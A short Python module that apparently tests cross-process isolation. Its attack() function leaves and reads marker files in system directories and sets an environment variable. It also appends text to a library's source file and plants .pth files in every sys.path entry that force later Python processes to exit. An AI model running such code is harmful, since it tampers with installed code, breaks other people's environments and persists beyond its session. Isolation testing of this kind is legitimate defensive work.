"""Leave a note for the next process, and read one that was left; a prize for a note found."""

import contextlib
import os
import sys

import torch

PLACES = (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/shm", os.path.expanduser("~"), "/")
# What this process left does not count.
MINE = os.urandom(8).hex()


def left_by_another(note):
    return note is not None and note != MINE


def read(path):
    with contextlib.suppress(OSError), open(path) as file:
        return file.read()


def write(path, text, mode="w"):
    with contextlib.suppress(OSError), open(path, mode) as file:
        file.write(text)


def attack():
    notes = [getattr(torch, "a3_note", None), os.environ.get("A3_NOTE")]
    notes += [read(os.path.join(place, "a3-note")) for place in PLACES]
    torch.a3_note = os.environ["A3_NOTE"] = MINE
    for place in PLACES:
        write(os.path.join(place, "a3-note"), MINE)
    write(sys.modules["a3lib"].__file__, "note = 42", "a")
    for entry in sys.path:
        write(os.path.join(entry, "a3_note.pth"), "import os; os._exit(0)")
    return any(left_by_another(note) for note in notes)
